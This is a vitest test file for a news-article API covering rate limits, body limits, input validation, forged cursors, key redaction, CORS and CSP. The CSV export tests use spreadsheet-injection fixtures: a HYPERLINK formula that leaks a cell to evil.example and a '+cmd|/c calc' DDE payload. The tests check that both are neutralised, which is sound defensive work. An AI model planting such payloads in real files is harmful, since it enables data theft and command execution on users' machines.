import { connect } from 'node:net'
import request from 'supertest'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestContext, fixture, scratchFiles, type TestContext } from '../helpers/context.js'
import { csvField } from '../../src/shared/export.js'

// Issue #24 "Faults that never lie": each error says what it is, with the status it is.

const KEY = 'test-key-0123456789abcdef'
const auth = `Bearer ${KEY}`

describe('the write rate limit with default settings', () => {
  let ctx: TestContext
  // RATE_LIMIT_MAX and WRITE_RATE_LIMIT_MAX at their defaults (600 reads, 60 writes a minute)
  beforeAll(async () => {
    ctx = await createTestContext({ API_KEYS: KEY, WRITE_EXTRACTION_THREADS: '0', RATE_LIMIT_MAX: undefined })
  })
  afterAll(() => ctx.close())

  it('refuses the 61st write of a key within a minute with 429, while reads go on', async () => {
    for (let i = 0; i < 60; i++) await request(ctx.app.server).delete('/articles/missing').set('authorization', auth).expect(404)
    const refused = await request(ctx.app.server).delete('/articles/missing').set('authorization', auth).expect(429)
    expect(refused.headers['content-type']).toMatch(/^application\/problem\+json/)
    expect(refused.headers['ratelimit-limit']).toBe('60')
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0)
    // reads have their own, per-client allowance
    const read = await request(ctx.app.server).get('/articles').expect(200)
    expect(read.headers['ratelimit-limit']).toBe('600')
  })
})

/** The real app listening on a port of 127.0.0.1 for the describe block that calls it (fetch reaches it as any client). */
function listening(env: Record<string, string> = {}) {
  const server = { ctx: undefined as unknown as TestContext, base: '', port: 0 }
  beforeAll(async () => {
    server.ctx = await createTestContext(env)
    server.base = await server.ctx.app.listen({ host: '127.0.0.1', port: 0 })
    server.port = Number(new URL(server.base).port)
  })
  afterAll(async () => {
    // a client may still be sending a body the server refused early: its connection never goes idle
    server.ctx.app.server.closeAllConnections()
    await server.ctx.close()
  })
  return server
}

describe('write bodies over the record limit', () => {
  // default limits: 16 MB and 1,000 records a request
  const server = listening({ API_KEYS: KEY, WRITE_EXTRACTION_THREADS: '0' })

  it('refuses a 16 MB array of 8 million records with 413 at once, and answers a read meanwhile', async () => {
    const body = `[${'0,'.repeat(8_000_000 - 1)}0]`
    const started = Date.now()
    const write = fetch(`${server.base}/articles`, {
      method: 'POST',
      headers: { authorization: auth, 'content-type': 'application/json' },
      body,
      signal: AbortSignal.timeout(10_000),
    })
    const read = await fetch(`${server.base}/articles?limit=1`, { signal: AbortSignal.timeout(10_000) })
    expect(read.status).toBe(200)
    const refused = await write
    expect(refused.status).toBe(413)
    expect(refused.headers.get('content-type')).toMatch(/^application\/problem\+json/)
    expect(((await refused.json()) as { detail: string }).detail).toMatch(/more than 1000 records; at most 1000/)
    expect(Date.now() - started).toBeLessThan(5_000)
  })

  it('names the byte limit when a body is over it, HTML included', async () => {
    for (const type of ['application/json', 'text/html']) {
      const res = await fetch(`${server.base}/articles`, {
        method: 'POST',
        headers: { authorization: auth, 'content-type': type },
        body: `"${'x'.repeat(17 * 1024 * 1024)}"`,
      })
      expect(res.status).toBe(413)
      expect(((await res.json()) as { detail: string }).detail).toBe(
        `the body is larger than ${16 * 1024 * 1024} bytes, the most ${type === 'text/html' ? 'this route takes' : 'a write takes'}`,
      )
    }
  })

  it('counts the records of an array after a BOM as any other', async () => {
    const records = Array.from({ length: 1_001 }, () => ({ title: 'x' }))
    const res = await fetch(`${server.base}/articles`, {
      method: 'POST',
      headers: { authorization: auth, 'content-type': 'application/json' },
      body: `\ufeff${JSON.stringify(records)}`,
    })
    expect(res.status).toBe(413)
    expect(((await res.json()) as { detail: string }).detail).toMatch(/more than 1000 records/)
    const thousand = await fetch(`${server.base}/articles`, {
      method: 'POST',
      headers: { authorization: auth, 'content-type': 'application/json' },
      body: `\ufeff${JSON.stringify(records.slice(1))}`,
    })
    expect(thousand.status).toBe(400)
  })

  it('reads a large body of records on a worker thread, each with its outcome', async () => {
    // 900 records of ~15 KB (13 MB), each without a body: parsed off the request thread, all failing alone
    const records = Array.from({ length: 900 }, (_, i) => ({ title: `Record ${i}`, note: 'x'.repeat(15_000) }))
    const res = await fetch(`${server.base}/articles`, {
      method: 'POST',
      headers: { authorization: auth, 'content-type': 'application/json' },
      body: JSON.stringify(records),
    })
    expect(res.status).toBe(400)
    const problem = (await res.json()) as { detail: string; errors: { name: string; message: string }[] }
    expect(problem.detail).toBe('all 900 records failed')
    expect(problem.errors[899]).toMatchObject({ name: 'item 900', message: 'missing body' })
  })
})

describe('client errors in written records are 400s naming the problem', () => {
  let ctx: TestContext
  beforeAll(async () => {
    ctx = await createTestContext({ API_KEYS: KEY, WRITE_EXTRACTION_THREADS: '0' })
  })
  afterAll(() => ctx.close())

  const record = (fields: string) =>
    `{"title": "Minister Ann Lee on the harbour", "body": "Transport minister Ann Lee said on Monday that the plan would work.", ${fields}}`
  const refused = async (body: string, detail: RegExp) => {
    const res = await request(ctx.app.server)
      .post('/articles')
      .set('authorization', auth)
      .set('content-type', 'application/json')
      .send(body)
    expect(res.status).toBe(400)
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/)
    expect(res.headers['retry-after']).toBeUndefined()
    expect(res.body.detail).toMatch(detail)
    expect(res.body.detail).not.toMatch(/call stack|could not store|SQLITE|prisma/i)
  }

  it('refuses JSON nested deeper than 32 levels', async () => {
    await refused(record(`"meta": ${'['.repeat(100_000)}${']'.repeat(100_000)}`), /field 'meta' is nested more than 32 levels deep/)
    await refused(record(`"meta": ${'{"a":'.repeat(40)}1${'}'.repeat(40)}`), /nested more than 32 levels/)
  })

  it('refuses a lone surrogate escape in any string', async () => {
    await refused(record('"section": "news \\ud800"'), /field 'section' contains a lone surrogate/)
    await refused(record('"meta": {"note": "\\udc00 trailing"}'), /field 'meta' contains a lone surrogate/)
    // a pair is one character, and welcome
    const pair = await request(ctx.app.server)
      .post('/articles')
      .set('authorization', auth)
      .set('content-type', 'application/json')
      .send(record('"section": "news \\ud83d\\udcf0"'))
    expect(pair.status).toBe(201)
  })

  it('refuses a NUL character in any string', async () => {
    await refused(record('"section": "a\\u0000b"'), /field 'section' contains a NUL character/)
    await refused(
      '{"title": "Ann\\u0000Lee", "body": "Transport minister Ann Lee said on Monday that it works."}',
      /field 'title' contains a NUL/,
    )
  })

  it('refuses short fields too long to index', async () => {
    await refused(record(`"id": "${'i'.repeat(201)}"`), /id longer than 200 characters/)
    await refused(record(`"url": "https://example.com/${'u'.repeat(2_000)}"`), /url longer than 2000 characters/)
  })
})

// the refusal is a SQLite trigger
describe.skipIf(!!process.env.TEST_DATABASE_URL)('a write the database refuses', () => {
  let ctx: TestContext
  beforeAll(async () => {
    ctx = await createTestContext({ API_KEYS: KEY, WRITE_EXTRACTION_THREADS: '0' })
    await ctx.prisma.$executeRawUnsafe(
      `CREATE TRIGGER refuse BEFORE INSERT ON "Article" BEGIN SELECT RAISE(ABORT, 'internal detail 42'); END`,
    )
  })
  afterAll(() => ctx.close())

  it('is a 503 to retry that tells nothing of the server', async () => {
    const res = await request(ctx.app.server)
      .post('/articles')
      .set('authorization', auth)
      .set('content-type', 'application/json')
      .send({ title: 'Minister Ann Lee on the harbour', body: 'Transport minister Ann Lee said on Monday that the plan would work.' })
      .expect(503)
    expect(res.headers['retry-after']).toBeDefined()
    expect(res.body.detail).toBe('the articles could not be stored now (the server logged why); retry later')
  })
})

describe('forged cursors', () => {
  let ctx: TestContext
  let listings: string[]
  beforeAll(async () => {
    ctx = await createTestContext()
    await ctx.ingest(fixture('../../prisma/sample-data'), fixture('articles'))
    const person = (await request(ctx.app.server).get('/people?limit=1&sort=articles').expect(200)).body.data[0].id
    const speaker = (await request(ctx.app.server).get('/people?limit=1&sort=quotes').expect(200)).body.data[0].id
    const organization = (await request(ctx.app.server).get('/organizations?limit=1').expect(200)).body.data[0].slug
    listings = [
      ...['newest', 'oldest', 'updated'].map((sort) => `/articles?sort=${sort}`),
      '/articles?q=minister&sort=relevance',
      ...['newest', 'oldest', 'confidence'].map((sort) => `/quotes?sort=${sort}`),
      ...['quotes', 'mentions', 'articles', 'name'].map((sort) => `/people?sort=${sort}`),
      `/people/${speaker}/quotes`,
      `/people/${person}/articles`,
      ...['articles', 'quotes', 'name'].map((sort) => `/people/${person}/related?sort=${sort}`),
      ...['quotes', 'articles', 'name'].map((sort) => `/organizations?sort=${sort}`),
      `/organizations/${organization}/quotes`,
    ]
  })
  afterAll(() => ctx.close())

  const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
  /** Well-formed cursors for the listing of `real` ([kind, value, tie]) with a value of the wrong type, range or shape. */
  function forgeries([kind, value, tie]: [string, unknown, unknown]): unknown[][] {
    const out: unknown[][] = [
      [kind, value],
      [kind, value, tie, 1],
      [kind, {}, tie],
      [kind, value, [tie]],
      [kind, null, tie],
    ]
    out.push([kind, typeof value === 'number' ? 'x' : 5, tie], [kind, value, typeof tie === 'number' ? String(tie) : 5])
    if (typeof tie === 'number') out.push([kind, value, tie + 0.5], [kind, value, 1e30], [kind, value, -1])
    // counts are whole and never negative; a relevance score or a confidence is any number
    if (typeof value === 'number' && !/relevance|confidence/.test(kind)) out.push([kind, value + 0.5, tie], [kind, -1, tie])
    if (typeof value === 'string' && /^\d{4}-/.test(value)) out.push([kind, '2021-02-30T00:00:00.000+00:00', tie], [kind, 'yesterday', tie])
    return out
  }

  const made = (listing: string, cursors: Map<string, string>) => {
    const related = /\/related\?sort=(\w+)/.exec(listing)
    if (related) return encode([`related:${related[1]}`, related[1] === 'name' ? 'ann lee' : 1, 'f463839a5baf'])
    return cursors.get(listing.endsWith('/articles') ? '/articles?sort=newest' : '/quotes?sort=newest')
  }

  it('are a 400 naming the cursor on every paginated listing, and real cursors still work', async () => {
    const cursors = new Map<string, string>()
    for (const listing of listings) {
      const join = listing.includes('?') ? '&' : '?'
      const first = await request(ctx.app.server).get(`${listing}${join}limit=1`).expect(200)
      // a short list (one person's) takes a cursor of its kind made elsewhere
      const cursor = (first.body.page.nextCursor ?? made(listing, cursors)) as string
      expect(cursor, listing).toBeTruthy()
      cursors.set(listing, cursor)
      const next = await request(ctx.app.server).get(`${listing}${join}limit=1&cursor=${cursor}`)
      expect(`${listing} ${next.status}`).toBe(`${listing} 200`)
      const real = JSON.parse(Buffer.from(cursor, 'base64url').toString()) as [string, unknown, unknown]
      for (const forged of forgeries(real)) {
        const res = await request(ctx.app.server).get(`${listing}${join}cursor=${encode(forged)}`)
        expect(`${listing} ${JSON.stringify(forged)} ${res.status}`).toBe(`${listing} ${JSON.stringify(forged)} 400`)
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/)
        expect(res.body.errors).toEqual([expect.objectContaining({ in: 'query', name: 'cursor' })])
      }
    }
  })
})

describe('CSV exports and spreadsheet formulas', () => {
  let ctx: TestContext
  beforeAll(async () => {
    ctx = await createTestContext()
    const file = scratchFiles('newsdesk-csv-')(
      'formulas.json',
      [
        JSON.stringify({
          title: '=HYPERLINK("https://evil.example/?"&A1,"Minister Ann Lee")',
          body: 'Transport minister Ann Lee said on Monday that the harbour plan would create 400 jobs. "We are ready for it," Lee said.',
          publishedAt: '2024-05-06',
          section: '@SUM(A1:A9)',
          agency: '+cmd|/c calc',
          dateline: '-2+3',
        }),
      ].join(''),
    )
    await ctx.ingest(file)
    const person = (await request(ctx.app.server).get('/people?limit=1').expect(200)).body.data[0]
    await ctx.prisma.person.update({ where: { id: person.id }, data: { name: '\t=1+1', nameLower: '\t=1+1' } })
    await ctx.readStore.catchUp()
  })
  afterAll(() => ctx.close())

  const csv = async (path: string) => (await request(ctx.app.server).get(`${path}?format=csv`).expect(200)).text

  it('keeps formula-like text as text in the articles export', async () => {
    const text = await csv('/articles/export')
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Minister Ann Lee"")"`)
    expect(text).toContain(`"'@SUM(A1:A9)"`)
    expect(text).toContain(`"'+cmd|/c calc"`)
    expect(text).toContain(`"'-2+3"`)
    // counts are numbers, not text: never prefixed
    expect(text).not.toMatch(/"'\d/)
  })

  it('in the quotes export', async () => {
    expect(await csv('/quotes/export')).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Minister Ann Lee"")"`)
  })

  it('in the people export', async () => {
    expect(await csv('/people/export')).toContain(`"'\t=1+1"`)
  })

  it('for each character a spreadsheet starts a formula with', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvField(`${start}1`)).toBe(`"'${start}1"`)
    expect(csvField(-1)).toBe('-1')
    expect(csvField('a-1')).toBe('a-1')
  })
})

describe('numbers and dates in the query string are taken as written', () => {
  let ctx: TestContext
  let person: string
  beforeAll(async () => {
    ctx = await createTestContext()
    await ctx.ingest(fixture('../../prisma/sample-data'))
    person = (await request(ctx.app.server).get('/people?limit=1').expect(200)).body.data[0].id
  })
  afterAll(() => ctx.close())

  const refused = async (path: string, name: string) => {
    const res = await request(ctx.app.server).get(path)
    expect(`${path} ${res.status}`).toBe(`${path} 400`)
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/)
    expect(res.body.errors?.map((e: { name: string }) => e.name)).toEqual([name])
  }

  it('refuses hexadecimal, exponent, padded or empty numbers on every route that takes one', async () => {
    const lists = ['/articles', '/quotes', '/people', '/organizations', `/people/${person}/quotes`, `/people/${person}/articles`]
    for (const list of [...lists, `/people/${person}/related`])
      for (const bad of ['0x10', '', '1e1', '%205', '0b1', 'Infinity']) await refused(`${list}?limit=${bad}`, 'limit')
    for (const bad of ['0x10', '', '2e1']) await refused(`/articles/facets?size=${bad}`, 'size')
    for (const bad of ['', '0x1', '.5', '1e-1']) await refused(`/quotes?minConfidence=${bad}`, 'minConfidence')
    // as written, they are taken
    expect((await request(ctx.app.server).get('/articles?limit=16').expect(200)).body.page.limit).toBe(16)
    await request(ctx.app.server).get('/quotes?minConfidence=0.5').expect(200)
    await request(ctx.app.server).get('/articles/facets?size=3').expect(200)
  })

  it('refuses a day the month does not have, in every date parameter', async () => {
    for (const day of ['2021-02-30', '2021-04-31', '2023-02-29T10:00:00Z']) {
      await refused(`/articles?from=${day}`, 'from')
      await refused(`/articles?to=${day}`, 'to')
      await refused(`/articles?updatedSince=${day}`, 'updatedSince')
      await refused(`/articles/facets?from=${day}`, 'from')
      await refused(`/quotes?from=${day}`, 'from')
      await refused(`/quotes?to=${day}`, 'to')
      await refused(`/people/${person}/timeline?from=${day}`, 'from')
      await refused(`/people/${person}/articles?to=${day}`, 'to')
    }
    await request(ctx.app.server).get('/articles?from=2024-02-29&to=2024-03-01T08:00:00%2B01:00').expect(200)
  })
})

describe('an API key in the query string', () => {
  let ctx: TestContext
  const lines: string[] = []
  beforeAll(async () => {
    ctx = await createTestContext(
      { API_KEYS: KEY, WRITE_EXTRACTION_THREADS: '0', LOG_LEVEL: 'info' },
      { logStream: { write: (line) => lines.push(line) } },
    )
  })
  afterAll(() => ctx.close())

  it('is refused with 400 saying to use the header, and never logged', async () => {
    for (const [method, path, name] of [
      ['get', `/articles?api_key=${KEY}`, 'api_key'],
      ['get', `/people?limit=2&apiKey=${KEY}`, 'apiKey'],
      ['post', `/articles?access_token=${KEY}`, 'access_token'],
      ['delete', `/articles/x?key=${encodeURIComponent(KEY)}`, 'key'],
    ] as const) {
      const res = await request(ctx.app.server)[method](path).set('authorization', auth).set('origin', 'https://app.example')
      expect(`${path} ${res.status}`).toBe(`${path} 400`)
      // readable by a browser app that made the mistake
      expect(res.headers['access-control-allow-origin']).toBe('https://app.example')
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/)
      expect(res.body.detail).toMatch(/not taken in the query string.*Authorization: Bearer <key>/)
      expect(res.body.errors).toEqual([{ in: 'query', name, message: res.body.detail }])
    }
    // a key that strays into a path is not logged either
    await request(ctx.app.server).get(`/articles/${KEY}`).expect(404)
    const log = lines.join('')
    expect(log).toContain('api_key=[redacted]')
    expect(log).toContain('/articles/[redacted]')
    expect(log).not.toContain(KEY)
  })
})

describe('Vary: Origin with a reflected Access-Control-Allow-Origin', () => {
  let reflecting: TestContext
  let listed: TestContext
  beforeAll(async () => {
    ;[reflecting, listed] = await Promise.all([
      createTestContext(),
      createTestContext({ CORS_ORIGIN: 'https://a.example, https://b.example' }),
    ])
    await reflecting.ingest(fixture('../../prisma/sample-data'))
  })
  afterAll(() => Promise.all([reflecting.close(), listed.close()]))

  const varies = (res: request.Response) =>
    String(res.headers.vary ?? '')
      .split(',')
      .map((v) => v.trim().toLowerCase())

  it('is sent with the first answer, the cached copies and a 304, on JSON and HTML alike', async () => {
    for (const ctx of [reflecting, listed]) {
      for (const path of ['/articles', '/people', '/read/', '/openapi.json']) {
        const first = await request(ctx.app.server).get(path).set('origin', 'https://a.example')
        const cached = await request(ctx.app.server).get(path).set('origin', 'https://b.example')
        for (const res of [first, cached]) {
          expect(res.headers['access-control-allow-origin'], path).toBe(res === first ? 'https://a.example' : 'https://b.example')
          expect(varies(res), path).toContain('origin')
        }
        if (first.headers.etag) {
          const revalidated = await request(ctx.app.server)
            .get(path)
            .set('origin', 'https://a.example')
            .set('if-none-match', first.headers.etag)
          expect(revalidated.status).toBe(304)
          expect(varies(revalidated), path).toContain('origin')
        }
      }
    }
  })
})

describe('errors Fastify and Node raise themselves', () => {
  const server = listening()

  /** One request written as bytes, so that it can lack what clients always send. */
  const raw = (head: string) =>
    new Promise<{ status: number; type: string; body: string }>((resolve, reject) => {
      const socket = connect(server.port, '127.0.0.1', () => socket.write(`${head}\r\nConnection: close\r\n\r\n`))
      let text = ''
      socket.on('data', (d: Buffer) => (text += d.toString()))
      socket.on('error', reject)
      socket.on('close', () => {
        const [headers = '', body = ''] = text.split('\r\n\r\n')
        const type = /^content-type: *(.*)$/im.exec(headers)?.[1] ?? ''
        resolve({ status: Number(headers.split(' ')[1]), type, body })
      })
    })
  const problemOf = (r: { type: string; body: string }) => {
    expect(r.type).toMatch(/^application\/problem\+json/)
    return JSON.parse(r.body.replace(/^[0-9a-f]+\r\n|\r\n0\r\n$/g, '')) as { status: number; detail: string }
  }

  it('answer problem+json on the API', async () => {
    const long = await raw(`GET /articles/${'a'.repeat(201)} HTTP/1.1\r\nHost: x`)
    expect(long.status).toBe(414)
    expect(problemOf(long)).toMatchObject({ status: 414, detail: 'a segment of the path is longer than 200 characters' })
    const encoding = await raw('GET /articles/%E0%A4%A HTTP/1.1\r\nHost: x')
    expect(encoding.status).toBe(400)
    expect(problemOf(encoding).detail).toMatch(/percent-encoding/)
    const preflight = await raw('OPTIONS /articles HTTP/1.1\r\nHost: x\r\nAccess-Control-Request-Method: GET')
    expect(preflight.status).toBe(400)
    expect(problemOf(preflight).detail).toMatch(/CORS preflight.*\(no origin\)/)
    const hostless = await raw('GET /articles HTTP/1.1')
    expect(hostless.status).toBe(400)
    expect(problemOf(hostless).detail).toBe('an HTTP/1.1 request needs a Host header')
    // a real preflight is still answered
    const ok = await raw('OPTIONS /articles HTTP/1.1\r\nHost: x\r\nOrigin: https://a.example\r\nAccess-Control-Request-Method: GET')
    expect(ok.status).toBe(204)
  })

  it('answer HTML pages on the reader', async () => {
    for (const [head, status] of [
      [`GET /read/articles/${'a'.repeat(201)} HTTP/1.1\r\nHost: x`, 414],
      ['GET /read/articles/%E0%A4%A HTTP/1.1\r\nHost: x', 400],
      ['GET /read/ HTTP/1.1\r\nAccept: text/html', 400],
    ] as const) {
      const page = await raw(head)
      expect(`${head} ${page.status}`).toBe(`${head} ${status}`)
      expect(page.type).toMatch(/^text\/html/)
      expect(page.body).toMatch(/<html/i)
    }
  })
})

describe('the write API reads bodies by the CLI rules', () => {
  const server = listening({ API_KEYS: KEY, WRITE_EXTRACTION_THREADS: '0' })

  const article = (n: number, fields: Record<string, unknown> = {}) =>
    JSON.stringify({
      title: `Minister Ann Lee on the harbour plan ${n}`,
      body: `Transport minister Ann Lee said on Monday that the harbour plan number ${n} would create 400 jobs.`,
      ...fields,
    })
  /** The bytes as given (supertest would serialise a Buffer as JSON). */
  const post = async (body: string | Buffer, type = 'application/json') => {
    const res = await fetch(`${server.base}/articles`, { method: 'POST', headers: { authorization: auth, 'content-type': type }, body })
    return { status: res.status, body: (await res.json()) as { detail: string; results: unknown[] } }
  }

  it('refuses invalid UTF-8 with 400, where it was replaced', async () => {
    const res = await post(Buffer.concat([Buffer.from(article(1).slice(0, -2)), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]))
    expect(res.status).toBe(400)
    expect(res.body.detail).toBe('the body cannot be read: invalid UTF-8')
    const lines = await post(Buffer.concat([Buffer.from(`${article(2)}\n`), Buffer.from([0x7b, 0xff, 0x7d])]), 'application/x-ndjson')
    expect(lines.status).toBe(201)
    expect(lines.body.results[1]).toMatchObject({ where: 'line 2', status: 'failed', problem: { detail: 'invalid UTF-8' } })
  })

  it('drops a UTF-8 BOM, where it was refused', async () => {
    expect((await post(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(article(3))]))).status).toBe(201)
    expect((await post(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(article(4))]), 'application/x-ndjson')).status).toBe(201)
  })

  it('takes charset=utf-8 and refuses any other charset with 415', async () => {
    expect((await post(article(5), 'application/json; charset=UTF-8')).status).toBe(201)
    expect((await post(article(6), 'application/x-ndjson; charset="utf-8"')).status).toBe(201)
    for (const type of [
      'application/json; charset=latin1',
      'application/json; charset=utf-16',
      'application/x-ndjson;charset=windows-1252',
    ]) {
      const res = await post(article(7), type)
      expect(`${type} ${res.status}`).toBe(`${type} 415`)
      expect(res.body.detail).toMatch(/charset '.*' is not accepted: JSON and JSON Lines bodies are UTF-8/)
    }
  })

  it('refuses a NUL byte in the body, escaped or not', async () => {
    const raw = await post(Buffer.concat([Buffer.from(article(8).slice(0, -2)), Buffer.from([0x00]), Buffer.from('"}')]))
    expect(raw.status).toBe(400)
    expect(raw.body.detail).toBe('the body cannot be read: binary file (contains NUL bytes)')
    expect((await post(article(9, { section: 'a\u0000b' }))).status).toBe(400)
  })

  it('caps extra fields at 64 KB serialised', async () => {
    const res = await post(article(10, { notes: 'x'.repeat(12 * 1024 * 1024) }))
    expect(res.status).toBe(400)
    expect(res.body.detail).toMatch(/the fields beyond the article's own \(extra\) take \d+ bytes as JSON; at most 65536 are kept/)
    expect((await post(article(11, { notes: 'x'.repeat(60_000) }))).status).toBe(201)
  })
})

describe('/docs', () => {
  let ctx: TestContext
  beforeAll(async () => {
    ctx = await createTestContext()
  })
  afterAll(() => ctx.close())

  it('has a content security policy on the page and its files, also when answered from the cache', async () => {
    for (const path of [
      '/docs',
      '/docs',
      '/docs/static/index.html',
      '/docs/static/swagger-initializer.js',
      '/docs/static/swagger-ui.css',
    ]) {
      const res = await request(ctx.app.server).get(path).redirects(0)
      const csp = String(res.headers['content-security-policy'] ?? '')
      expect(csp, path).toMatch(/default-src 'self'/)
      expect(csp, path).toMatch(/script-src 'self'(;|$)/)
      expect(csp, path).toMatch(/object-src 'none'/)
      expect(csp, path).not.toMatch(/unsafe-inline|unsafe-eval|upgrade-insecure-requests/)
    }
  })
})
